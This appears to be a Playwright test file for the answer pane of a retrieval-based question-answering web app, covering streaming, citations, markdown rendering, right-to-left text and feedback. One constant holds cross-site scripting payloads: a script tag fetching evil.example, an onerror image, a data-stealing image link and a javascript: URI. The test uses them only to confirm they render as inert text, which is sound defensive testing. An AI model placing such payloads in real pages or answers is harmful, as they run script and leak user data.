"""The middle pane, with a language model behind the server that says what a test wants."""

from __future__ import annotations

import json

from m3rag.answering.prompt import SENTINEL
from m3rag.testing.llm_server import Reply

from .conftest import Visits
from .sites import Site, ask, expect, highlight, ready

HOSTILE = (
    "Read ![it](http://evil.example/steal?q=1) and <img src=http://evil.example/x onerror=alert(1)>"
    "<script>fetch('http://evil.example')</script> [here](http://evil.example) <b>now</b>\n\n"
    "- first **thing** [1]\n- second `<i>` [9]\n\n1. javascript:alert(1)\n"
)


def test_a_stream_is_stopped_and_what_came_stays(writing: Site, visit: Visits) -> None:
    writing.script["slow?"] = Reply("Ducks eat " + "very " * 400 + "slowly [1].", pause=0.05)
    page = visit(writing)
    ready(page)
    ask(page, "Is it slow?")
    turn = page.locator(".turn")
    expect(turn.locator(".answer")).to_contain_text("very very")
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_hidden()
    page.get_by_role("button", name="Stop").click()
    expect(turn.get_by_text("Stopped.")).to_be_visible()
    expect(turn.locator(".answer")).to_contain_text("very very")
    expect(page.get_by_role("button", name="Ask", exact=True)).to_be_visible()
    expect(page.get_by_label("Question", exact=True)).to_be_focused()
    page.reload()
    expect(page.locator(".turn").get_by_text("Stopped.")).to_be_visible()


def test_a_broken_stream_is_said_and_asked_again(writing: Site, visit: Visits) -> None:
    writing.script["broken?"] = Reply("Ducks eat grass [1].", break_after=2)
    page = visit(writing)
    ready(page)
    ask(page, "Is it broken?")
    expect(page.locator(".turn .error strong")).not_to_be_empty()
    del writing.script["broken?"]
    page.get_by_role("button", name="Ask again").click()
    expect(page.locator(".turn")).to_have_count(1)
    expect(page.locator(".turn button.cite")).to_have_text("1")
    expect(page.locator(".turn .error")).to_have_count(0)


def test_a_refusal_reads_as_one(writing: Site, visit: Visits) -> None:
    writing.script["unknown?"] = Reply(SENTINEL)
    page = visit(writing)
    ready(page)
    ask(page, "Is it unknown?")
    expect(page.locator(".answer.unanswered")).to_have_text("The documents do not answer this question.")


def test_lists_are_lists_and_ruled_lines_are_none(writing: Site, visit: Visits) -> None:
    writing.script["ruled?"] = Reply("- - - - x Ducks eat grass [1].\n\nThey are:\n- small\n- quick")
    page = visit(writing)
    ready(page)
    ask(page, "Is it ruled?")
    expect(page.locator(".turn .tools")).to_be_visible()
    expect(page.locator(".answer li")).to_have_text(["small", "quick"])
    expect(page.locator(".answer p").first).to_contain_text("- - - - x Ducks eat grass")


def test_a_citation_within_bold_words_is_a_button(writing: Site, visit: Visits) -> None:
    writing.script["bold?"] = Reply("**Ducks eat grass [1].**")
    page = visit(writing)
    ready(page)
    ask(page, "Is it bold?")
    expect(page.locator(".answer strong")).to_have_text("Ducks eat grass 1.")
    page.locator(".answer strong button.cite").click()
    expect(page.locator("#source mark")).to_be_in_viewport()


def test_blocks_of_code_are_kept_as_they_stand(writing: Site, visit: Visits) -> None:
    code = "for duck in pond:\n    - feed(duck, [1])  # **all** `of` them"
    writing.script["code?"] = Reply(f"Feed them:\n````py\n{code}\n```\n````\n- ```\n\n```x``` no\n```\n<b>open")
    page = visit(writing)
    ready(page)
    ask(page, "Is it code?")
    expect(page.locator(".turn .tools")).to_be_visible()
    assert page.locator(".answer pre").all_text_contents() == [f"{code}\n```\n", "<b>open\n"]
    expect(page.locator(".answer p").last).to_contain_text("x")
    assert page.locator(".answer pre :is(b, button, strong)").count() == 0


def test_a_new_question_is_seen_below_a_long_answer(writing: Site, visit: Visits) -> None:
    writing.script["long?"] = Reply("Ducks eat grass.\n" * 80)
    writing.script["next?"] = Reply("slowly " * 400, pause=0.05)
    page = visit(writing)
    ready(page)
    ask(page, "Is it long?")
    expect(page.locator(".turn .tools")).to_be_visible()
    page.locator("#turns").evaluate("box => (box.scrollTop = 0)")
    ask(page, "And next?")
    expect(page.get_by_text("And next?", exact=True)).to_be_in_viewport()
    expect(page.locator(".turn").last.locator(".answer")).to_contain_text("slowly slowly")
    expect(page.get_by_text("And next?", exact=True)).to_be_in_viewport()
    page.get_by_role("button", name="Stop").click()


def test_a_hostile_answer_is_text(writing: Site, visit: Visits) -> None:
    writing.script["hostile?"] = Reply(HOSTILE)
    page = visit(writing)
    ready(page)
    ask(page, "Is it hostile?")
    expect(page.locator(".tools")).to_be_visible()
    answer = page.locator(".answer")
    expect(answer).to_contain_text("![it](http://evil.example/steal?q=1)")
    expect(answer).to_contain_text("<script>fetch('http://evil.example')</script>")
    expect(answer.locator("li")).to_have_count(3)
    expect(answer.locator("strong")).to_have_text("thing")
    kinds = page.evaluate("[...new Set([...document.querySelectorAll('.answer *')].map(e => e.tagName))].sort()")
    assert set(kinds) <= {"P", "UL", "OL", "LI", "STRONG", "CODE", "BUTTON"}
    page.reload()  # and so it is when it comes from the storage; `visit` looks at all requests
    expect(page.locator(".answer")).to_contain_text("![it](http://evil.example/steal?q=1)")


def test_offsets_count_characters_as_the_server_does(writing: Site, visit: Visits) -> None:
    writing.script["heron"] = Reply("The heron eats frogs by the river [1].")
    page = visit(writing)
    ready(page)
    ask(page, "What does the heron eat by the river?")
    page.locator(".turn button.cite").click()
    expect(page.locator("#source mark")).to_have_text("The heron eats frogs by the river.")
    page.locator(".considered summary").click()
    highlight(page, "words (lexical)")
    first = page.locator(".hits > li").filter(has_text="𝔘𝔫𝔦𝔠𝔬𝔡𝔢")
    expect(first.locator("mark").filter(has_text="heron")).to_have_text("heron")


def test_right_to_left_text_runs_from_the_right(writing: Site, visit: Visits) -> None:
    writing.script["البط؟"] = Reply("يأكل البط العشب [1].")
    page = visit(writing)
    ready(page)
    ask(page, "ماذا يأكل البط؟")
    cite = page.locator(".turn button.cite")
    expect(cite).to_be_visible()
    for place in (".question", ".answer p"):
        assert page.locator(place).evaluate("e => getComputedStyle(e).direction") == "rtl"
    cite.click()
    assert page.locator("#source .text").evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert page.evaluate("getComputedStyle(document.body).direction") == "ltr"


def test_an_answer_is_copied_and_rated(writing: Site, visit: Visits) -> None:
    page = visit(writing, permissions=["clipboard-read", "clipboard-write"])
    ready(page)
    ask(page, "What do ducks eat?")
    page.get_by_role("button", name="Copy the answer").click()
    expect(page.locator(".tools").get_by_text("Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "Ducks eat grass [1]."
    down = page.get_by_role("button", name="A bad answer")
    down.click()
    page.get_by_label("What was wrong?").fill("They eat fish, too.")
    with page.expect_request("**/api/feedback") as sent:
        page.get_by_label("What was wrong?").press("Enter")
    expect(down).to_have_attribute("aria-pressed", "true")
    body = json.loads(sent.value.post_data)
    assert (body["rating"], body["comment"], body["answer"]) == ("down", "They eat fish, too.", "Ducks eat grass [1].")
    with page.expect_request("**/api/feedback") as again:
        down.click()
    expect(down).to_have_attribute("aria-pressed", "false")
    assert json.loads(again.value.post_data) == {**body, "rating": "none", "comment": ""}


def test_what_is_chosen_is_what_is_sent(writing: Site, visit: Visits) -> None:
    page = visit(writing)
    ready(page)
    with page.expect_request("**/api/ask") as plain:
        ask(page, "What do ducks eat?")
    assert json.loads(plain.value.post_data) == {"question": "What do ducks eat?", "history": []}
    expect(page.locator(".tools")).to_have_count(1)
    page.locator("#options summary").click()
    page.get_by_label("Search by").select_option("dense+lexical")
    page.get_by_label("Within").select_option("ducks.txt")
    page.get_by_label("Passages").fill("2")
    page.get_by_label("Weights").select_option("own")
    page.get_by_label("Weight of lexical").fill("0.3")
    expect(page.locator("#options-said")).to_contain_text("within ducks")
    page.reload()  # the choice is kept
    ready(page)
    with page.expect_request("**/api/ask") as chosen:
        ask(page, "And when do they sleep?")
    body = json.loads(chosen.value.post_data)
    assert body["history"] == [{"question": "What do ducks eat?", "answer": "Ducks eat grass [1]."}]
    assert body["filter"] == {"document_id": "ducks.txt"}
    assert (body["mode"], body["k"], body["weights"]) == ("dense+lexical", 2, "0.5/0.3/0.5")
    expect(page.locator(".tools")).to_have_count(2)
    assert page.locator(".turn").nth(1).locator(".hits > li").count() == 1
